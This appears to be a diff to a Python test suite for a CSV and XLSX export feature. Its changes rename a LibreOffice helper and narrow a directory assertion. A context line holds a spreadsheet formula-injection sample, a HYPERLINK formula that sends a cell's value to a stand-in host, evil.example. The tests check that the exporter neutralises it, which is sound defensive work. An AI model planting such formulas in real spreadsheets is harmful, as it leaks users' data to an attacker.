@@ -33,7 +33,7 @@ def test_numbers_and_plain_text_are_written_as_they_are():
     assert csv_bytes([[EVIL, 1]], header=["nom", "n"]) == "\ufeffnom;n\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\";1\r\n".encode()
 
 
-def _soffice() -> str:
+def soffice_path() -> str:
     found = shutil.which("soffice") or shutil.which("libreoffice")
     if not found:
         if os.environ.get("CI", "").lower() == "true":
@@ -55,7 +55,7 @@ async def test_a_site_named_like_a_formula_comes_out_as_text_in_the_example_csv(
     assert rows[1][2] == "'" + EVIL
 
     # The office suite a buyer opens it with reads text, not a formula.
-    soffice = _soffice()
+    soffice = soffice_path()
     source = tmp_path / "bornes-modele.csv"
     source.write_bytes(response.content)
     await asyncio.to_thread(subprocess.run, [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "xlsx",
@@ -100,7 +100,7 @@ async def test_the_xlsx_writer_types_its_cells_and_libreoffice_reads_the_same_nu
     lines = text.read_text("utf-8-sig").splitlines()
     assert lines[1].split(";")[1:5] == ["-12.50", "3", "2026-12-03 17:05:07", "2026-12-01"]
 
-    soffice = _soffice()
+    soffice = soffice_path()
     await asyncio.to_thread(subprocess.run, [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
                                              "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1",
                                              "--outdir", str(tmp_path), str(xlsx)],
@@ -123,4 +123,4 @@ async def test_an_export_longer_than_its_bound_is_refused_and_leaves_no_file(tmp
     for fmt in ("csv", "xlsx"):
         with pytest.raises(TooManyRows, match="limité à 3 lignes"):
             await write_export(fmt, ["n"], ([i] for i in range(4)), max_rows=3)
-    assert not list(tmp_path.iterdir())
+    assert not list(tmp_path.glob("centrale-export-*"))  # noqa: ASYNC240 - a test's own directory
